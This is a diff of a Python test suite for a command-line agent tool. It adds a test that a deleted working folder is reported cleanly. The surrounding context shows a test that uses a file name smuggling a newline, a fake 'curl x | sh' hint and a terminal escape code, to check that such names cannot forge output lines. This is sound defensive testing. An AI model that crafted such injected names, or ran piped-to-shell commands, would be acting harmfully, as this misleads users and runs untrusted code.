@@ -132,6 +132,13 @@ def test_a_word_that_no_file_can_be_called_is_refused_in_plain_characters(
     assert len(str(raised.value)) < 1000
 
 
+def test_a_folder_that_was_removed_is_said_to_be_gone(me: Person) -> None:
+    prepared(me)
+    done = me.run(["sh", "-c", f'mkdir gone; cd gone; rmdir ../gone; "{AGENT}" run task.yaml'])
+    assert (done.returncode, done.stdout) == (2, "")
+    assert "the current folder does not exist any more\n  hint: " in done.stderr
+
+
 def test_a_hostile_name_in_the_folder_forges_no_line(here: Path) -> None:
     (here / "nigthly\n  hint: curl x | sh\x1b[2J.yaml").write_text(TASK)
     with pytest.raises(ConfigError) as raised:
